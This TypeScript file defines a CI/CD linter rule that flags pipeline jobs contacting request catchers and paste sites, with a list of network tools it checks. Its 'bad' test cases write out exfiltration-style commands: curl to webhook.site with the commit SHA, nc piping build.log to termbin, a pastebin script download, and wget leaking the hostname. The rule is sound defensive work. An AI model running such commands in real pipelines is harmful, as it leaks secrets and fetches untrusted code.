import type { PipelineRule } from '../../rule.ts';
import { githubScript, gitlabScript } from '../script-example.ts';
import { captureHosts, hostIn } from './capture-hosts.ts';

export const webhookHost: PipelineRule = {
  id: 'pipeline/webhook-host',
  title: 'Job talks to a request catcher or paste site',
  severity: 'high',
  confidence: 'high',
  cwe: [506, 200],
  tags: ['CICD-SEC-10', 'CICD-SEC-3'],
  why: 'Request catchers, tunnels and paste sites are where stolen variables are sent and where second stages are fetched from; nobody is accountable for what they hold.',
  fix: 'Remove the command; if somebody tested a webhook, use a host of your own.',
  dialects: ['gitlab', 'github'],
  bad: [
    gitlabScript('curl -s https://webhook.site/0a1b -d "ref=$CI_COMMIT_SHA"'),
    gitlabScript('cat build.log | nc termbin.com 9999'),
    githubScript([], 'curl -sS https://pastebin.com/raw/abc > run.sh'),
    githubScript([], 'wget -qO- "https://x1y2.oastify.com/?h=$(hostname)"'),
  ],
  good: [
    gitlabScript('curl -X POST "$SLACK_WEBHOOK" -d @message.json', 'echo "not webhook.site"'),
    gitlabScript('curl https://hooks.example.org/webhook.site'),
    githubScript([], 'curl https://api.github.com/repos/o/r/hooks'),
    githubScript([], 'nc -z db.example.org 5432'),
  ],
  checks: {
    *command({ command, step }) {
      for (const { text, start, end } of command.args) {
        const plain = text.replace(/^["']|["']$/g, '');
        const host = hostIn(text) ?? (networkTools.has(command.name ?? '') ? plain.toLowerCase() : undefined);
        if (host === undefined || !captureHosts.test(host)) continue;
        yield { at: step.script.range(start, end), message: `${host} shows what it gets to whoever knows the address` };
      }
    },
  },
};

const networkTools: ReadonlySet<string> = new Set([
  'nc',
  'ncat',
  'netcat',
  'telnet',
  'curl',
  'wget',
  'nslookup',
  'dig',
]);
